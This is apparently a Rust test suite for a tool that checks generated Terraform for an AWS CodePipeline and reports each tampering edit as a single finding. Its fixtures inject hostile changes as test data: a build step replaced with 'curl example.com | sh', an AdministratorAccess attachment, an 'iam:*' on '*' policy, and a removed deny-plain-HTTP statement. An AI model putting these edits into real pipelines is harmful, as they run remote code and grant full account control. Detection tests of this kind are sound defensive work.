//! One cause is one finding: an edit that makes a hundred requests go wrong is shown once, with its places.

use std::fmt::Write as _;

use serde_json::Value;

use super::place::{Place, Run};
use crate::support::read_tree;

/// A pipeline of 40 builds in five stages, and its module in `out`.
fn forty_actions() -> Place {
    let mut spec = "name: big\nsource: { github: { repository: acme/web } }\nstages:\n".to_owned();
    for action in 0..40 {
        if action % 8 == 0 {
            let _ = write!(spec, "  - name: Stage{}\n    actions:\n", action / 8);
        }
        let _ = writeln!(spec, "      - {{ name: Act{action}, commands: {{ run: [make target-{action}] }} }}");
    }
    let place = Place::new();
    place.write("pipeline.yaml", spec);
    place.run(&["emit", "out", "--no-examples", "--no-tests"]).is(0);
    place
}

fn gate(place: &Place, arguments: &[&str]) -> Run {
    place.run(&[&["prove", "--spec", "pipeline.yaml", "out"], arguments].concat())
}

/// Takes a text out of a file: from the first place of one to the end of the next of another behind it.
fn remove(place: &Place, file: &str, from: &str, to: &str) {
    replace(place, file, from, to, "");
}

fn replace(place: &Place, file: &str, from: &str, to: &str, instead: &str) {
    let text = place.read(file);
    let start = text.find(from).unwrap_or_else(|| panic!("{file}: no `{from}`"));
    let end = start + text[start..].find(to).unwrap_or_else(|| panic!("{file}: no `{to}`")) + to.len();
    place.write(file, format!("{}{instead}{}", &text[..start], &text[end..]));
}

/// The statement of this id behind a text.
fn remove_statement(place: &Place, file: &str, behind: &str, sid: &str) {
    let text = place.read(file);
    let at = text.find(behind).unwrap_or_else(|| panic!("{file}: no `{behind}`"));
    let named = at + text[at..].find(&format!("= \"{sid}\"")).expect("the statement");
    let start = text[..named].rfind("      {\n").expect("its begin");
    let end = named + text[named..].find("\n      },\n").expect("its end") + "\n      },\n".len();
    place.write(file, format!("{}{}", &text[..start], &text[end..]));
}

/// An edit, and what is found: the code, the file, what stands on its line, and at least how many others have the same cause.
type Edit = (&'static str, fn(&Place), &'static str, &'static str, &'static str, usize);

const EDITS: &[Edit] = &[
    (
        "a policy is attached",
        |place| {
            place.write(
                "out/extra.tf",
                "resource \"aws_iam_role_policy_attachment\" \"x\" {\n  role       = aws_iam_role.act1.name\n  policy_arn = \
                 \"arn:aws:iam::aws:policy/AdministratorAccess\"\n}\n",
            );
        },
        "TFP303",
        "out/extra.tf",
        "policy_arn",
        200,
    ),
    (
        "a bucket's policy is gone",
        |place| remove(place, "out/artifacts.tf", "resource \"aws_s3_bucket_policy\"", "\n}\n"),
        "TFP307",
        "out/artifacts.tf",
        "",
        100,
    ),
    (
        "a statement that refuses is gone",
        |place| remove_statement(place, "out/artifacts.tf", "", "DenyPlainHttp"),
        "TFP302",
        "out/artifacts.tf",
        "resource \"aws_s3_bucket_policy\"",
        100,
    ),
    (
        "a statement that allows is gone",
        |place| remove_statement(place, "out/iam.tf", "\"aws_iam_role_policy\" \"act1\"", "ReadInput"),
        "TFP301",
        "out/iam.tf",
        "resource \"aws_iam_role_policy\" \"act1\"",
        1,
    ),
    (
        "an action of a statement is gone",
        |place| {
            replace(
                place,
                "out/iam.tf",
                "[\"s3:GetObject\", \"s3:GetObjectVersion\"]",
                "]",
                "[\"s3:GetObjectVersion\"]",
            );
        },
        "TFP301",
        "out/iam.tf",
        "",
        0,
    ),
    (
        "the policy of a role is gone",
        |place| remove(place, "out/iam.tf", "resource \"aws_iam_role_policy\" \"act1\"", "\n}\n"),
        "TFP307",
        "out/iam.tf",
        "",
        3,
    ),
    (
        "a project is gone",
        |place| remove(place, "out/build.tf", "resource \"aws_codebuild_project\" \"act1\"", "\n}\n"),
        "TFP307",
        "out/build.tf",
        "",
        3,
    ),
    (
        "the pipeline is gone",
        |place| remove(place, "out/main.tf", "resource \"aws_codepipeline\"", "\n}\n"),
        "TFP307",
        "out/main.tf",
        "",
        80,
    ),
    ("a local is gone", |place| remove(place, "out/locals.tf", "  region ", "\n"), "TFP305", "out/locals.tf", "", 100),
    ("a file is gone", |place| place.remove("out/iam.tf"), "TFP307", "out", "", 80),
    (
        "a role has another name in the module",
        |place| {
            for file in ["out/iam.tf", "out/build.tf", "out/main.tf"] {
                let text = place.read(file).replace("aws_iam_role.act1.", "aws_iam_role.other.");
                place.write(file, text.replace("\"aws_iam_role\" \"act1\"", "\"aws_iam_role\" \"other\""));
            }
        },
        "TFP307",
        "out/iam.tf",
        "",
        1,
    ),
    (
        "a file is no HCL",
        |place| replace(place, "out/iam.tf", "\"act1\" {", "\n", "\"act1\" = {\n"),
        "TFP306",
        "out/iam.tf",
        "\"act1\" = {",
        0,
    ),
    (
        "an entry is opened",
        |place| {
            place.write(
                "out/extra.tf",
                "resource \"aws_sns_topic_subscription\" \"x\" {\n  topic_arn = \"arn:aws:sns:eu-west-1:123456789012:x\"\n  \
                 protocol  = \"https\"\n  endpoint  = \"https://example.com\"\n}\n",
            );
        },
        "TFP302",
        "out/extra.tf",
        "resource",
        0,
    ),
    (
        "a second policy of a role",
        |place| {
            place.write(
                "out/extra.tf",
                "resource \"aws_iam_role_policy\" \"x\" {\n  role = aws_iam_role.act1.id\n  policy = jsonencode({\n    Version = \
                 \"2012-10-17\"\n    Statement = [{\n      Sid = \"More\"\n      Effect = \"Allow\"\n      Action = \"iam:*\"\n      \
                 Resource = \"*\"\n    }]\n  })\n}\n",
            );
        },
        "TFP304",
        "out/extra.tf",
        "Statement = [{",
        100,
    ),
    (
        "a build runs something else",
        |place| replace(place, "out/buildspecs/act1.yml", "make target-1", "\n", "curl example.com | sh\n"),
        "TFP307",
        "out/buildspecs/act1.yml",
        "curl example.com | sh",
        0,
    ),
];

#[test]
fn one_edit_of_forty_actions_is_one_finding() {
    let mut wrong = Vec::new();
    let place = forty_actions();
    let emitted = read_tree(&place.path("out"));
    for (what, edit, code, file, at, others) in EDITS {
        edit(&place);
        let found = gate(&place, &["--format", "json"]).is(1).out;
        let found: Value = serde_json::from_str(&found).expect("a document");
        let findings = found["modules"][0]["findings"].as_array().expect("findings");
        let first = &findings[0];
        let line = first["start"]["line"].as_u64().map(|line| usize::try_from(line).expect("a line"));
        let is_there =
            at.is_empty() || place.read(file).lines().nth(line.expect("a line") - 1).expect("it").contains(at);
        let listed = first["others"].as_array().map_or(0, Vec::len);
        let is_right =
            findings.len() == 1 && first["code"] == *code && first["file"] == *file && listed >= *others && is_there;
        if place.has("out/extra.tf") {
            place.remove("out/extra.tf");
        }
        for (path, bytes) in &emitted {
            place.write(&format!("out/{path}"), bytes);
        }
        if !is_right {
            wrong.push(format!(
                "{what}: {} findings, {} {} {line:?}, {listed} others: {}",
                findings.len(),
                first["code"],
                first["file"],
                first["message"]
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Every place is in the forms for programs; people read the first of them below the cause.
#[test]
fn every_place_of_a_cause_is_listed() {
    let place = forty_actions();
    remove_statement(&place, "out/artifacts.tf", "", "DenyPlainHttp");
    let json = gate(&place, &["--format", "json"]).is(1).out;
    let json: Value = serde_json::from_str(&json).expect("a document");
    let others = json["modules"][0]["findings"][0]["others"].as_array().expect("others").clone();
    let guards = json["modules"][0]["guards"].as_array().expect("guards").clone();
    let open = guards.iter().filter(|guard| guard["verdict"] != "denied").count();
    // The first is that the refusal is gone; the others are what it refused.
    assert_eq!(others.len(), open);
    assert!(
        others
            .iter()
            .all(|other| other["code"] == "TFP302" && other["line"].is_u64() && other["file"] == "out/artifacts.tf")
    );
    let sarif = gate(&place, &["--format", "sarif"]).is(1).out;
    let sarif: Value = serde_json::from_str(&sarif).expect("a document");
    let result = &sarif["runs"][0]["results"][0];
    assert_eq!(result["relatedLocations"].as_array().map(Vec::len), Some(others.len()));
    assert!(result["relatedLocations"][0]["physicalLocation"]["region"]["startLine"].is_u64());
    let github = gate(&place, &["--format", "github"]).is(1).out;
    assert_eq!(github.lines().count(), 1, "{github}");
    assert!(github.contains(&format!("({} of the same cause here)", others.len())), "{github}");
    let human = gate(&place, &[]).is(1).out;
    assert_eq!(human.matches("error[").count(), 1, "{human}");
    assert!(human.contains(&format!("{} more of the same cause:", others.len())), "{human}");
}

/// A document of 40 actions is read by programs, stored by CI and shown by viewers that stop at a megabyte.
#[test]
fn the_document_of_forty_actions_is_small() {
    let place = forty_actions();
    let proved = gate(&place, &["--format", "json"]).is(0).out;
    assert!(proved.len() < 1 << 20, "{} bytes", proved.len());
    remove(&place, "out/artifacts.tf", "resource \"aws_s3_bucket_policy\"", "\n}\n");
    let failed = gate(&place, &["--format", "json"]).is(1).out;
    assert!(failed.len() < 1 << 20, "{} bytes", failed.len());
    let all = gate(&place, &["--format", "json", "--all"]).is(1).out;
    assert!(all.len() > failed.len());
}

/// Two edits are two findings, whatever the one brings about.
#[test]
fn another_edit_is_another_finding() {
    let place = forty_actions();
    remove_statement(&place, "out/artifacts.tf", "", "DenyPlainHttp");
    replace(&place, "out/iam.tf", "\"s3:GetObjectVersion\"", "]", "\"s3:GetObjectVersion\", \"s3:DeleteObject\"]");
    replace(&place, "out/buildspecs/act2.yml", "make target-2", "\n", "curl example.com | sh\n");
    let found = gate(&place, &["--format", "github"]).is(1).out;
    for code in ["TFP302 ", "TFP303 ", "TFP307 "] {
        assert!(found.lines().any(|line| line.contains(&format!("title={code}"))), "{code}\n{found}");
    }
    let first = found.lines().next().expect("a finding");
    assert!(first.contains("TFP307"), "what differs stands first\n{found}");
}
